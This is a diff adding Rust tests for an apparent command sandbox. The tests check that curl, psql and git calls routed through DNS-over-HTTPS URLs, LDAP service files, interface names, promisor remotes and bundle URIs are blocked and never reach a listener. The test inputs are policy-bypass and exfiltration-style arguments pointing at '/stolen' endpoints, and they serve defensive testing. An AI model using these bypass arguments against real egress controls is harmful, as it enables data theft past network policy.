@@ -113,7 +113,7 @@ fn a_connection_that_ends_before_its_request() {
 fn a_server_of_names_that_policy_was_not_asked_about() {
     let policy = r#"@id("all") permit(principal, action, resource);
         @id("one") forbid(principal, action in [Action::"http.get", Action::"http.send", Action::"http.other"], resource)
-        unless { resource.host == "a.test" && !(context has connect) };"#;
+        unless { resource.host == "a.test" };"#;
     let site = Site::with(&Setup { policy, ..Setup::default() });
     let listener = TcpListener::bind("127.0.0.1:0").unwrap();
     listener.set_nonblocking(true).unwrap();
@@ -121,8 +121,11 @@ fn a_server_of_names_that_policy_was_not_asked_about() {
     let (names, directory) = (format!("https://{at}/stolen"), format!("[x]\nldap://{at}/dc=stolen?a?one?(cn=x)\n"));
     let service = site.path("work/service");
     fs::write(&service, directory).unwrap();
-    let lines: [&[&str]; 3] = [
+    let lines: [&[&str]; 5] = [
         &["curl", "-sS", "-m", "5", "--doh-url", &names, "http://a.test/"],
+        // What comes to no request at its own host has asked for names before.
+        &["curl", "-sS", "-m", "5", "--doh-url", &names, "--tlsv1.3", "--tls-max", "1.2", "https://a.test/"],
+        &["curl", "-sS", "-m", "5", "--doh-url", &names, "-u", "a:b", "--aws-sigv4", "", "http://a.test/"],
         &["curl", "-sS", "-m", "5", "--interface", "host!stolen.b.test", "http://a.test/"],
         &["psql", "service=x", "-c", "select 1"],
     ];
@@ -130,6 +133,30 @@ fn a_server_of_names_that_policy_was_not_asked_about() {
         let ran = site.shim(line[0]).env("PGSERVICEFILE", &service).args(&line[1..]).output().unwrap();
         assert_eq!(ran.status.code(), Some(126), "{line:?}: {}", words(&ran));
         assert!(listener.accept().is_err(), "{line:?} connected");
+    }
+}
+
+/// git asks whoever promised an object that is not here, and whoever bundles or a prefetch names.
+#[test]
+fn a_repository_that_git_asks_beside_the_lines_own() {
+    let policy = r#"@id("all") permit(principal, action, resource);
+        @id("one") forbid(principal, action == Action::"git.fetch", resource) unless { resource.host == "a.test" };"#;
+    let site = Site::with(&Setup { policy, ..Setup::default() });
+    let made = Command::new("git").args(["init", "-q"]).arg(site.path("work")).status().unwrap();
+    assert!(made.success());
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let at = format!("http://{}/stolen", listener.local_addr().unwrap());
+    let (url, bundle) = (format!("remote.e.url={at}"), format!("--bundle-uri={at}"));
+    let lines: [&[&str]; 3] = [
+        &["-c", &url, "-c", "remote.e.promisor=true", "cat-file", "-e", "1234567812345678123456781234567812345678"],
+        &["-c", &url, "maintenance", "run", "--task=prefetch"],
+        &["clone", &bundle, "http://a.test/x"],
+    ];
+    for line in lines {
+        let ran = site.shim("git").args(line).output().unwrap();
+        assert_eq!(ran.status.code(), Some(126), "git {line:?}: {}", words(&ran));
+        assert!(listener.accept().is_err(), "git {line:?} connected");
     }
 }
 
